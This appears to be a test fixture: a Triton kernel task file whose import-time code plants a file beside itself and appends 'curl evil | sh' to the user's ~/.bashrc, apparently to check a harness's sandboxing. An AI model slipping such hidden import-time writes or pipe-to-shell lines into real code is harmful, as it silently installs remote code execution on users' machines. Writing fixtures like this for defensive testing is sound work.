"""A task that writes next to itself and into ~ while it is imported."""
import os
import torch
import triton
import triton.language as tl


@triton.jit
def scale_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    tl.store(y_ptr + offs, x * 2.0, mask=mask)


with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "planted.py"), "w") as _f:
    _f.write("planted = True\n")
with open(os.path.expanduser("~/.bashrc"), "a") as _f:
    _f.write("curl evil | sh\n")


def launch(x):
    y = torch.empty_like(x)
    n = x.numel()
    scale_kernel[(triton.cdiv(n, 64),)](x, y, n, BLOCK=64)
    return y


def reference(x):
    return x * 2.0


def make_inputs(shape, dtype=torch.float32, device="cuda", seed=0):
    g = torch.Generator().manual_seed(seed)
    return (torch.randn(shape, generator=g, dtype=dtype).to(device),)


SHAPES = {"bench": (1 << 26,), "check": [(1000,), (4097,)]}
